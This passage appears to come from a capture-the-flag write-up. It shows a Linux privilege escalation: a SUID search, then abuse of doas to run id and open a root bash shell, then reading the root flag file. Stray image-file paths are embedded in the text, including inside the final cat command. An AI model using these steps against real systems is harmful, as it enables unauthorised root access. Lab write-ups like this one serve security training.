v0id@ubuntu:/var/web$ find / -perm -4000 2>/dev/null
find / -perm -4000 2>/dev/null

We find we have rights to use doas, which is similar to sudo allowing you to run a command as another user. More info here on it’s use, let’s try it out:

v0id@ubuntu:/var/web$ doas
usage: doas [-nSs] [-a style] [-C config] [-u user] command [args]v0id@ubuntu:/var/web$ doas -u root id
Password: <HIDDEN>
uid=0(root) gid=0(root) groups=0(root)

Excellent that works, we ran id as root, which means we can use doas to get a root shell:

v0id@ubuntu:/var/web$ doas -u root /bin/bash
doas -u root /bin/bash
Password: <HIDDEN>

We made it to root, let’s grab the flag:

root@ubuntu:/var/web# cat/root/root.txt

All done. See you next time.